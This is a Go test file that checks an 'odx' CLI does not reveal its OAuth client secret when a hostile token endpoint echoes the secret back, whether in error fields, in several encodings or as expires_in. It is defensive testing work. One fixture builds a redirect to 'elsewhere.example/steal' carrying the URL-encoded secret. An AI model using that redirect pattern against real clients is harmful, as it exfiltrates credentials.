package cli

// The client secret against a hostile token endpoint that echoes it back
// (issue 13, finding 1): in an error description cut so that the cut falls
// inside the secret, in an error code, in a description that must be quoted,
// as expires_in, and in every encoding a server may use. Whatever odx
// writes (stdout, stderr of `odx token` and `odx sets`, the error value)
// must not give away the secret whole, encoded, or as any run of 8 of its
// characters (leak_test.go).

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/odx-dev/odx/auth"
	"github.com/odx-dev/odx/internal/config"
)

// echoSecrets are the secrets the echo tests configure: one with every
// character that JSON, Go quoting and URL encoding escape, one plain.
var echoSecrets = []string{`S3cr3t+/=Pa"ss\w0rd-XYZZY`, "plainAlnumSecret1234567890"}

// secretEcho is a hostile token endpoint's answer to a client-credentials
// request, built from the secret it echoes.
type secretEcho struct {
	name   string
	status int
	body   func(secret string) string
	want   []string                     // substrings of the error line
	header func(secret string) []string // response headers, name and value, if any
}

// arm makes f answer token requests with the echo of secret.
func (ec secretEcho) arm(f *faultServer, secret string) {
	var hdr []string
	if ec.header != nil {
		hdr = ec.header(secret)
	}
	f.setToken(answer("", ec.status, ec.body(secret), hdr...))
}

// jsonString is s as a JSON string literal.
func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// allUEscapes is s as a JSON string literal with every character \u-escaped
// (System.Text.Json escapes more than Go does; this is the limit).
func allUEscapes(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04X`, r)
	}
	b.WriteByte('"')
	return b.String()
}

// basicCredentials is the value of an Authorization: Basic header with
// the fault server's client id and secret: the secret's base64 starts
// inside a group of three bytes, where leaks (which knows the secret's own
// base64 only) does not look.
func basicCredentials(secret string) string {
	return base64.StdEncoding.EncodeToString([]byte(url.QueryEscape(faultClientID) + ":" + secret))
}

// basicLeak returns a run of 8 characters of basicCredentials(secret) past
// the client id found in text, or "".
func basicLeak(secret, text string) string {
	enc := basicCredentials(secret)
	from := (len(url.QueryEscape(faultClientID)) + 1) * 4 / 3 // the first character holding a bit of the secret
	run, _ := longestRun(enc[from:], text)
	return run
}

// described is an invalid_client answer whose error_description is desc.
func described(desc string) string {
	return `{"error":"invalid_client","error_description":` + jsonString(desc) + `}`
}

func secretEchoes() []secretEcho {
	pad := func(n int) string { return strings.Repeat("x", n) }
	return []secretEcho{
		{"description cut inside the secret", 400, func(s string) string {
			return described(pad(200-len(s)+1) + s + " was wrong")
		}, []string{"rejected client 'fault.example/odx'", "check client_id"}, nil},
		{"error code cut inside the secret", 400, func(s string) string {
			return `{"error":` + jsonString(pad(80-len(s)+1)+s) + `}`
		}, []string{"refused the token request with", "check the Trusted Application"}, nil},
		{"description with a newline", 400, func(s string) string {
			return described("bad\nsecret " + s)
		}, []string{"rejected client 'fault.example/odx'", "check client_id"}, nil},
		{"secret as expires_in", 200, func(s string) string {
			return `{"access_token":"abc","token_type":"Bearer","expires_in":` + jsonString(s) + `}`
		}, []string{"whose expires_in is not a whole number of seconds", "check that token_url"}, nil},
		{"base64", 400, func(s string) string {
			return described("got " + base64.StdEncoding.EncodeToString([]byte(s)))
		}, []string{"check client_id"}, nil},
		{"base64url, no padding", 400, func(s string) string {
			return described("got " + base64.RawURLEncoding.EncodeToString([]byte(s)))
		}, []string{"check client_id"}, nil},
		{"Basic credentials", 400, func(s string) string {
			return described("got Basic " + basicCredentials(s))
		}, []string{"check client_id"}, nil},
		{"URL-encoded", 400, func(s string) string { return described("got " + url.PathEscape(s)) }, []string{"check client_id"}, nil},
		{"form-encoded", 400, func(s string) string { return described("got " + url.QueryEscape(s)) }, []string{"check client_id"}, nil},
		{"form body echoed", 400, func(s string) string {
			return described("body was grant_type=client_credentials&client_secret=" + url.QueryEscape(s) + "&client_id=x")
		}, []string{"check client_id"}, nil},
		{"JSON-escaped", 400, func(s string) string { return described("got " + jsonString(s)) }, []string{"check client_id"}, nil},
		{"\\u-escaped in the description", 400, func(s string) string { return described("got " + allUEscapes(s)) },
			[]string{"check client_id"}, nil},
		{"\\u-escaped in the body", 400, func(s string) string {
			return `{"error":"invalid_client","error_description":` + allUEscapes("got "+s) + `}`
		}, []string{"check client_id"}, nil},
		{"Go-quoted", 400, func(s string) string { return described("got " + strconv.Quote(s)) }, []string{"check client_id"}, nil},
		{"split across a newline", 400, func(s string) string {
			return described("got " + s[:12] + "\n" + s[12:])
		}, []string{"check client_id"}, nil},
		{"redirect to another origin", http.StatusTemporaryRedirect, func(string) string { return "" },
			[]string{"redirected to another origin", "set token_url to the final address"},
			func(s string) []string {
				return []string{"Location", "http://elsewhere.example/steal?s=" + url.QueryEscape(s)}
			}},
	}
}

// TestSecretEchoedByTokenEndpoint runs `odx token` and `odx sets` against
// each echo, for each secret, and checks everything they write.
func TestSecretEchoedByTokenEndpoint(t *testing.T) {
	faultEnv(t)
	for _, secret := range echoSecrets {
		t.Setenv("ODX_CLIENT_SECRET", secret)
		for _, ec := range secretEchoes() {
			for _, cmd := range []string{"token", "sets"} {
				t.Run(fmt.Sprintf("%s/%s/%s", secret[:5], ec.name, cmd), func(t *testing.T) {
					f := newFaultServer(t, 3)
					ec.arm(f, secret)
					code, stdout, stderr := f.cli(t, cmd)
					if code != exitFailure {
						t.Fatalf("exit status %d; want %d (stderr %q)", code, exitFailure, stderr)
					}
					line := errLine(t, stderr)
					t.Logf("shown: %s", line)
					checkNoLeak(t, []string{secret}, map[string]string{"stdout": stdout, "stderr": stderr})
					if run := basicLeak(secret, stderr); run != "" {
						t.Errorf("stderr leaks the secret in Basic credentials (run %q)", run)
					}
					for _, w := range ec.want {
						if !strings.Contains(line, w) {
							t.Errorf("error %q; want it to say %q", line, w)
						}
					}
				})
			}
		}
	}
}

// TestSecretEchoedErrorValue checks the error value a session's token
// source returns for each echo: its text and the server's text it keeps.
func TestSecretEchoedErrorValue(t *testing.T) {
	for _, secret := range echoSecrets {
		for _, ec := range secretEchoes() {
			t.Run(secret[:5]+"/"+ec.name, func(t *testing.T) {
				f := newFaultServer(t, 3)
				ec.arm(f, secret)
				st, err := config.New(f.URL, faultClientID, secret)
				if err != nil {
					t.Fatal(err)
				}
				s, err := newSession(context.Background(), st, nil, f.clientTransport())
				if err != nil {
					t.Fatal(err)
				}
				defer s.Close()
				_, err = s.Auth.Token(context.Background())
				var ae *auth.Error
				if !errors.As(err, &ae) {
					t.Fatalf("got %v (%T); want an *auth.Error", err, err)
				}
				outputs := map[string]string{
					"Error()": err.Error(), "Code": ae.Code, "Description": ae.Description, "Body": string(ae.Body)}
				checkNoLeak(t, []string{secret}, outputs)
				for what, text := range outputs {
					if run := basicLeak(secret, text); run != "" {
						t.Errorf("%s leaks the secret in Basic credentials (run %q)", what, run)
					}
				}
			})
		}
	}
}

// TestSecretEchoKeepsOtherText: a description that does not hold the
// secret is shown as sent, redaction or not.
func TestSecretEchoKeepsOtherText(t *testing.T) {
	faultEnv(t)
	t.Setenv("ODX_CLIENT_SECRET", echoSecrets[0])
	f := newFaultServer(t, 3)
	f.setToken(answer("", http.StatusUnauthorized, described("The client secret is wrong.")))
	_, _, stderr := f.cli(t, "token")
	line := errLine(t, stderr)
	if want := "('The client secret is wrong.')"; !strings.Contains(line, want) {
		t.Errorf("error %q; want it to say %q", line, want)
	}
}

// TestSecretWrittenAsEnvName: the secret written by mistake as
// client_secret_env's value is not echoed by the error that refuses it.
func TestSecretWrittenAsEnvName(t *testing.T) {
	faultEnv(t)
	t.Setenv("ODX_CLIENT_SECRET", "")
	for _, secret := range echoSecrets {
		f := newFaultServer(t, 3)
		dir := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "odx")
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		conf := fmt.Sprintf("[profiles.fault]\ninstance = %q\nclient_id = %q\nclient_secret_env = %s\n",
			f.URL, faultClientID, jsonString(secret))
		if err := os.WriteFile(filepath.Join(dir, "config.toml"), []byte(conf), 0o600); err != nil {
			t.Fatal(err)
		}
		var out, errb bytes.Buffer
		e := &env{stdin: strings.NewReader(""), stdout: &out, stderr: &errb, getenv: os.Getenv, transport: f.clientTransport()}
		if code := run(context.Background(), e, []string{"token"}); code == exitOK {
			t.Fatalf("exit status %d; want a failure", code)
		}
		line := errLine(t, errb.String())
		t.Logf("shown: %s", line)
		checkNoLeak(t, []string{secret}, map[string]string{"stdout": out.String(), "stderr": errb.String()})
		// A secret that is not a variable name is refused as such; one that
		// could be a name (in lower case) is looked up, and not named.
		if !strings.Contains(line, "is not the name of an environment variable") && !strings.Contains(line, "holds the variable's name and not the secret") {
			t.Errorf("error %q; want it to say client_secret_env must name a variable", line)
		}
		if n := f.tokenReqs.Load(); n != 0 {
			t.Errorf("%d token requests; want none", n)
		}
	}
}
